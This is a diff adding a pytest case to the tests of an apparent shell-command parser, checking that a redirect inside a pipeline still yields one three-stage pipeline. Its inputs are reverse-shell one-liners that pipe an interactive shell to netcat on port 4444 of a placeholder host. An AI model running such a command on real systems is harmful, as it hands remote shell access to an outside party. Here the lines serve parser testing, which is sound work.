@@ -44,6 +44,22 @@ def test_pipelines_record_positions() -> None:
     assert names(analysis) == ["curl", "grep", "bash"]
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat f | sh -i 2>&1 | nc h 4444",
+        "cat f | sh -i 2>&1 | nc h 4444 > f",
+        "cat f | sh -i 2>/dev/null | nc h 4444",
+    ],
+)
+def test_a_redirect_inside_a_pipeline_keeps_one_pipeline(command: str) -> None:
+    # The grammar nests `a | b 2>&1 | c` as `(a | b) 2>&1 | c`; bash runs three stages.
+    analysis = run(command)
+    assert analysis.pipelines == ((0, 1, 2),)
+    assert [(s.name, s.position) for s in analysis.segments] == [("cat", 0), ("sh", 1), ("nc", 2)]
+    assert ">" in find(analysis, "sh -i").redirects[0].op
+
+
 def test_separate_commands_are_separate_pipelines() -> None:
     analysis = run("ls; pwd && whoami")
     assert analysis.pipelines == ((0,), (1,), (2,))
